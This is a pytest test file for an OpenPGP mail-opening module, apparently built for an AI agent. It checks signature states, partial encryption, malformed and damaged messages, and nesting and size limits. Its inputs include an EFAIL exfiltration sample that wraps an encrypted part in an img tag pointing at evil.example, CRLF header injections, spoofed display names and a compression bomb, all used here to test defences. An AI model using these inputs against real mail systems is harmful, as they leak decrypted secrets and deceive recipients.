# SPDX-License-Identifier: AGPL-3.0-or-later
"""Letters in every OpenPGP form, made with real keys, and what the agent is told of them."""

import binascii

import pytest

from desk.letters.opened import EncryptionState, Opened, SignatureState, Unopenable
from mail.limits import DEPTH
from mail.reading.open_letter import open_letter
from tests.mail.people import Desk, Person, encrypted, entity, headers, multipart, signed

NONE, OK, PARTIAL = EncryptionState.NONE, EncryptionState.OK, EncryptionState.PARTIAL


def states(opened: Opened) -> list[tuple[SignatureState, str]]:
    return [(one.state, one.covers) for one in opened.signatures]


def test_a_plain_letter_is_plain(desk: Desk) -> None:
    opened = open_letter(headers("Alice <Alice@User.example>") + entity("Hello\nthere"), desk.keyring)
    assert (opened.form, opened.encryption.state, opened.text) == ("plain", NONE, "Hello\nthere")
    assert (opened.headers.sender, opened.headers.sender_name) == ("alice@user.example", "Alice")
    assert (opened.headers.subject, opened.headers.message_id) == ("A question", "<m1@user.example>")
    assert opened.signatures == ()
    assert opened.problems == ()


def test_an_encrypted_letter_is_opened(desk: Desk, alice: Person) -> None:
    raw = headers(alice.address) + encrypted(alice.encrypt(entity("sécret"), desk.public))
    opened = open_letter(raw, desk.keyring)
    assert (opened.form, opened.encryption.state, opened.text) == ("pgp/mime encrypted", OK, "sécret")
    assert len(opened.sessions) == 1


def test_a_signature_inside_the_encryption_is_told(desk: Desk, alice: Person) -> None:
    raw = headers(alice.address) + encrypted(alice.encrypt(entity("both"), desk.public, "--sign"))
    opened = open_letter(raw, desk.keyring, signers=[alice.public])
    assert opened.form == "pgp/mime encrypted and signed"
    assert states(opened) == [(SignatureState.GOOD, "all")]
    assert opened.signatures[0].fingerprint == alice.fingerprint


def test_a_signed_letter_inside_an_encrypted_one_is_told(desk: Desk, alice: Person) -> None:
    inside = signed(alice, entity("nested"))
    raw = headers(alice.address) + encrypted(alice.encrypt(inside, desk.public))
    opened = open_letter(raw, desk.keyring, signers=[alice.public])
    assert (opened.form, opened.encryption.state) == ("pgp/mime encrypted, pgp/mime signed", OK)
    assert (opened.text, states(opened)) == ("nested", [(SignatureState.GOOD, "all")])


@pytest.mark.parametrize("line_end", [b"\r\n", b"\n"])
def test_a_signature_holds_over_the_exact_bytes(desk: Desk, alice: Person, line_end: bytes) -> None:
    # Folding, spaces and an empty last line that a parser would not write again like this.
    content = entity("one \ntwo\t\n\n", "X-Odd:   a\r\n   folded =?utf-8?q?w=C3=B6rd?=  line")
    raw = (headers(alice.address) + signed(alice, content)).replace(b"\r\n", line_end)
    opened = open_letter(raw, desk.keyring, signers=[alice.public])
    assert (opened.form, states(opened)) == ("pgp/mime signed", [(SignatureState.GOOD, "all")])
    assert opened.text == "one \ntwo\t\n\n"


def test_a_changed_signed_letter_is_bad(desk: Desk, alice: Person) -> None:
    raw = headers(alice.address) + signed(alice, entity("pay 10"))
    opened = open_letter(raw.replace(b"pay 10", b"pay 99"), desk.keyring, signers=[alice.public])
    assert states(opened) == [(SignatureState.BAD, "all")]


def test_a_signature_by_an_unknown_key_is_not_good(desk: Desk, alice: Person) -> None:
    opened = open_letter(headers(alice.address) + signed(alice, entity("hi")), desk.keyring)
    assert states(opened) == [(SignatureState.UNKNOWN_KEY, "all")]


@pytest.mark.parametrize(
    "sender",
    [
        "mallory@user.example",
        "",
        '"alice@user.example" <mallory@user.example>',
        "mallory@user.example, alice@user.example",
        "alice@user.example\r\nFrom: mallory@user.example",
        "mallory@user.example\r\nSender: alice@user.example",
    ],
)
def test_a_signature_by_another_than_the_sender_is_not_green(desk: Desk, alice: Person, sender: str) -> None:
    opened = open_letter(headers(sender) + signed(alice, entity("hi")), desk.keyring, signers=[alice.public])
    assert states(opened) == [(SignatureState.GOOD_OTHER_SENDER, "all")]


def test_the_signers_key_is_found_among_others(desk: Desk, alice: Person) -> None:
    raw = headers(alice.address) + signed(alice, entity("hi"))
    opened = open_letter(raw, desk.keyring, signers=[desk.public, alice.public])
    assert states(opened) == [(SignatureState.GOOD, "all")]


def test_a_signed_form_without_a_signature_is_bad(desk: Desk, alice: Person) -> None:
    letter = multipart(
        'multipart/signed; protocol="application/pgp-signature"', entity("hi"), entity("there")
    )
    opened = open_letter(headers(alice.address) + letter, desk.keyring, signers=[alice.public])
    assert (opened.text, states(opened)) == ("hi\n\nthere", [(SignatureState.BAD, "all")])


@pytest.mark.parametrize("end", [b"--=-signed--\r\n", b"--\r\n", b"\r\n"])
def test_what_a_signature_covers_needs_no_closing_boundary(desk: Desk, alice: Person, end: bytes) -> None:
    letter = headers(alice.address) + signed(alice, entity("hi"))
    cut = letter.removesuffix(end)
    assert len(cut) < len(letter)
    assert states(open_letter(cut, desk.keyring, signers=[alice.public])) == [(SignatureState.GOOD, "all")]
    torn = cut[: cut.rindex(b"-----END")][:-40]
    assert states(open_letter(torn, desk.keyring, signers=[alice.public])) == [(SignatureState.BAD, "all")]


def test_an_encrypted_form_without_its_version_is_malformed(desk: Desk, alice: Person) -> None:
    raw = headers(alice.address) + encrypted(alice.encrypt(b"SECRET", desk.public))
    opened = open_letter(raw.replace(b"Version: 1", b"Version: 2"), desk.keyring)
    assert (opened.encryption.state, opened.text) == (EncryptionState.BROKEN, "")


@pytest.mark.parametrize(
    ("sender", "name"),
    [
        ('"boss@desk.example" <mallory@user.example>', "boss@desk.example"),
        ("boss@desk.example <mallory@user.example>", "boss@desk.example"),
        ("The boss@desk.example <mallory@user.example>", "The boss@desk.example"),
        ("boss@desk.example<mallory@user.example>", "boss@desk.example"),
        (
            '"boss@desk.example, you@desk.example <x@y.example>" <mallory@user.example>',
            "boss@desk.example, you@desk.example <x@y.example>",
        ),
    ],
)
def test_a_display_name_that_holds_another_address_is_told(desk: Desk, sender: str, name: str) -> None:
    opened = open_letter(headers(sender) + entity("hi"), desk.keyring)
    assert (opened.headers.sender, opened.headers.sender_name) == ("mallory@user.example", name)
    assert any("display name" in problem for problem in opened.problems)


@pytest.mark.parametrize("sender", ["a@user.example, b@user.example", "a@user.example <>"])
def test_an_address_without_a_name_is_none_s_name(desk: Desk, sender: str) -> None:
    opened = open_letter(headers(sender) + entity("hi"), desk.keyring)
    assert (opened.headers.sender, opened.headers.sender_name) == ("a@user.example", "")


@pytest.mark.parametrize(
    ("sender", "address"),
    [
        ('Kim <"Kim"@user.example>', "kim@user.example"),
        ('"kim..k."@user.example', "kim..k.@user.example"),
        ('"Doe, Kim" <"kim"@user.example>', "kim@user.example"),
        ('"kim@bank.example"@user.example', ""),
        ('kim"k"@user.example', ""),
    ],
)
def test_quotation_marks_around_the_local_part_are_none_of_the_address(
    desk: Desk, sender: str, address: str
) -> None:
    opened = open_letter(f"From: {sender}\r\n\r\nhi".encode(), desk.keyring)
    assert opened.headers.sender == address


@pytest.mark.parametrize("subtype", ["mixed", "related", "alternative"])
def test_a_signature_on_a_part_never_covers_the_words_beside_it(
    desk: Desk, alice: Person, subtype: str
) -> None:
    letter = multipart(f"multipart/{subtype}", entity("UNSIGNED"), signed(alice, entity("signed")))
    opened = open_letter(headers(alice.address) + letter, desk.keyring, signers=[alice.public])
    assert (opened.form, states(opened)) == ("pgp/mime signed, in part", [(SignatureState.PARTIAL, "part")])
    assert (opened.text, opened.unprotected_text) == ("signed", "UNSIGNED")


def test_an_encrypted_part_is_opened_alone_and_told_as_a_part(desk: Desk, alice: Person) -> None:
    """EFAIL's direct exfiltration: open quote before, close quote after."""
    sealed = encrypted(alice.encrypt(entity("SECRET"), desk.public))
    before = entity('<img src="http://evil.example/', type_="text/html")
    after = entity('">', type_="text/html")
    opened = open_letter(
        headers(alice.address) + multipart("multipart/mixed", before, sealed, after), desk.keyring
    )
    assert (opened.encryption.state, opened.text) == (PARTIAL, "SECRET")
    assert "SECRET" not in opened.unprotected_text
    assert "evil.example" not in opened.text


def test_an_inline_message_is_opened_and_words_around_it_stand_apart(desk: Desk, alice: Person) -> None:
    armor = alice.encrypt("grüße".encode(), desk.public).decode()
    alone = open_letter(headers(alice.address) + entity(armor), desk.keyring)
    assert (alone.form, alone.encryption.state, alone.text) == ("inline encrypted", OK, "grüße")
    beside = open_letter(headers(alice.address) + entity(f"before\n{armor}\nafter"), desk.keyring)
    assert (beside.encryption.state, beside.text) == (PARTIAL, "grüße")
    assert beside.unprotected_text == "before\n\nafter"


def test_only_the_words_under_a_clear_signature_are_shown_as_signed(desk: Desk, alice: Person) -> None:
    clear = alice.gpg("--clearsign", data=b"SIGNED\n").decode()
    alone = open_letter(headers(alice.address) + entity(clear), desk.keyring, signers=[alice.public])
    assert (alone.form, alone.text, alone.unprotected_text) == ("clearsigned", "SIGNED\n", "")
    assert states(alone) == [(SignatureState.GOOD, "all")]
    raw = headers(alice.address) + entity(f"PREPENDED\n{clear}\nAPPENDED")
    around = open_letter(raw, desk.keyring, signers=[alice.public])
    assert (around.text, around.unprotected_text) == ("SIGNED\n", "PREPENDED\n\nAPPENDED")
    assert states(around) == [(SignatureState.PARTIAL, "part")]


def test_a_clear_signature_is_found_whose_dashes_are_encoded(desk: Desk, alice: Person) -> None:
    clear = alice.gpg("--clearsign", data="grüße\n".encode())
    coded = binascii.b2a_qp(clear).replace(b"-----BEGIN", b"=2D----BEGIN").replace(b"-----END", b"=2D----END")
    letter = entity(coded.decode(), "Content-Transfer-Encoding: quoted-printable")
    opened = open_letter(headers(alice.address) + letter, desk.keyring, signers=[alice.public])
    assert (opened.form, opened.text) == ("clearsigned", "grüße\n")
    assert states(opened) == [(SignatureState.GOOD, "all")]


def test_a_message_that_is_signed_in_packets_is_told_as_signed(desk: Desk, alice: Person) -> None:
    packets = alice.gpg("--armor", "--sign", data=b"SIGNED\n").decode()
    opened = open_letter(headers(alice.address) + entity(packets), desk.keyring, signers=[alice.public])
    assert (opened.form, opened.encryption.state) == ("inline signed", NONE)
    assert (opened.text, opened.unprotected_text, opened.problems) == ("SIGNED\n", "", ())
    assert states(opened) == [(SignatureState.GOOD, "all")]
    unknown = open_letter(headers(alice.address) + entity(packets), desk.keyring)
    assert (unknown.text, states(unknown)) == ("SIGNED\n", [(SignatureState.UNKNOWN_KEY, "all")])
    file = entity(packets, type_='application/octet-stream; name="a.txt.asc"')
    attached = open_letter(headers(alice.address) + file, desk.keyring, signers=[alice.public])
    assert (attached.form, attached.attachments[0].name) == ("signed attachment", "a.txt")
    assert (attached.encryption.state, states(attached)) == (NONE, [(SignatureState.GOOD, "all")])


def test_the_words_under_a_bad_clear_signature_stand_outside(desk: Desk, alice: Person) -> None:
    clear = alice.gpg("--clearsign", data=b"SIGNED\n").decode().replace("SIGNED\n", "FORGED\n", 1)
    opened = open_letter(headers(alice.address) + entity(clear), desk.keyring, signers=[alice.public])
    assert opened.text == ""
    assert "FORGED" in opened.unprotected_text
    assert [one.state for one in opened.signatures] == [SignatureState.BAD]


def test_plain_packets_sent_as_encrypted_are_not_told_as_encrypted(desk: Desk, alice: Person) -> None:
    literal = alice.gpg("--armor", "--store", data=entity("not secret"))
    for letter in (encrypted(literal), entity(literal.decode())):
        opened = open_letter(headers(alice.address) + letter, desk.keyring)
        assert (opened.encryption.state, opened.text) == (NONE, "")
        assert "not secret" in opened.unprotected_text
        assert "The letter claims to be encrypted, but its content is not." in opened.problems


def test_nothing_is_shown_of_a_message_without_integrity_protection(desk: Desk, alice: Person) -> None:
    weak = alice.encrypt(
        entity("SECRET"), desk.public, "--rfc2440", "--disable-mdc", "--cipher-algo", "CAST5"
    )
    opened = open_letter(headers(alice.address) + encrypted(weak), desk.keyring)
    assert opened.encryption.state is EncryptionState.BROKEN
    assert "SECRET" not in repr(opened)


@pytest.mark.parametrize("form", ["pgp/mime", "inline"])
def test_nothing_is_shown_of_a_damaged_message(desk: Desk, alice: Person, form: str) -> None:
    plain = entity("SECRET " * 20_000) if form == "pgp/mime" else b"SECRET " * 20_000
    armor = alice.encrypt(plain, desk.public, "-z", "0").decode().split("\n")
    del armor[-40:-20]
    broken = "\n".join(armor)
    letter = encrypted(broken.encode()) if form == "pgp/mime" else entity(broken)
    opened = open_letter(headers(alice.address) + letter, desk.keyring)
    assert opened.encryption.state is EncryptionState.BROKEN
    assert "SECRET" not in repr(opened)


def test_a_letter_to_somebody_else_cannot_be_opened(desk: Desk, alice: Person) -> None:
    raw = headers(alice.address) + encrypted(alice.encrypt(entity("mine"), alice.public))
    opened = open_letter(raw, desk.keyring)
    assert (opened.encryption.state, opened.text) == (EncryptionState.UNDECRYPTABLE, "")


def test_a_malformed_encrypted_letter_is_not_guessed_at(desk: Desk, alice: Person) -> None:
    data = b"Content-Type: application/octet-stream\r\n\r\n" + alice.encrypt(entity("SECRET"), desk.public)
    letter = multipart("multipart/encrypted", data)
    opened = open_letter(headers(alice.address) + letter, desk.keyring)
    assert (opened.encryption.state, opened.text) == (EncryptionState.BROKEN, "")
    assert any("RFC 3156" in problem for problem in opened.problems)


def test_the_form_that_exchange_leaves_is_repaired_and_told(desk: Desk, alice: Person) -> None:
    version = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
    data = b"Content-Type: application/octet-stream\r\n\r\n" + alice.encrypt(entity("safe"), desk.public)
    letter = multipart("multipart/mixed", entity(""), version, data)
    opened = open_letter(headers(alice.address) + letter, desk.keyring)
    assert (opened.encryption.state, opened.text) == (OK, "safe")
    assert any("repaired" in problem for problem in opened.problems)


def test_layers_end_somewhere(desk: Desk, alice: Person) -> None:
    letter = entity("deep")
    for _ in range(6):
        letter = encrypted(alice.encrypt(letter, desk.public))
    opened = open_letter(headers(alice.address) + letter, desk.keyring)
    assert any("too many layers" in problem for problem in opened.problems)
    assert "deep" not in opened.text


def test_of_two_messages_in_one_text_only_the_first_is_opened(desk: Desk, alice: Person) -> None:
    first, second = (alice.encrypt(words, desk.public).decode() for words in (b"ONE", b"TWO"))
    opened = open_letter(headers(alice.address) + entity(first + second), desk.keyring)
    assert (opened.encryption.state, opened.text) == (PARTIAL, "ONE")
    assert "BEGIN PGP MESSAGE" in opened.unprotected_text


def test_a_ciphertext_sent_again_by_another_is_recognisable(desk: Desk, alice: Person) -> None:
    sealed = alice.encrypt(b"SECRET", desk.public)
    one = open_letter(headers(alice.address) + encrypted(sealed), desk.keyring)
    again = open_letter(headers("mallory@user.example") + entity(sealed.decode()), desk.keyring)
    other = open_letter(
        headers(alice.address) + encrypted(alice.encrypt(b"SECRET", desk.public)), desk.keyring
    )
    assert one.sessions == again.sessions != other.sessions


def test_the_limits_hold_for_what_was_decrypted_too(desk: Desk, alice: Person) -> None:
    deep = entity("bottom")
    for level in range(DEPTH + 1):
        deep = multipart("multipart/mixed", deep, boundary=f"b{level}")
    with pytest.raises(Unopenable, match="nested"):
        open_letter(headers(alice.address) + encrypted(alice.encrypt(deep, desk.public)), desk.keyring)


def test_what_unpacks_to_too_much_is_not_shown(desk: Desk, alice: Person) -> None:
    bomb = alice.encrypt(entity("A" * 60_000_000), desk.public, "--compress-algo", "bzip2")
    assert len(bomb) < 10_000
    opened = open_letter(headers(alice.address) + encrypted(bomb), desk.keyring)
    assert (opened.encryption.state, opened.text) == (EncryptionState.BROKEN, "")
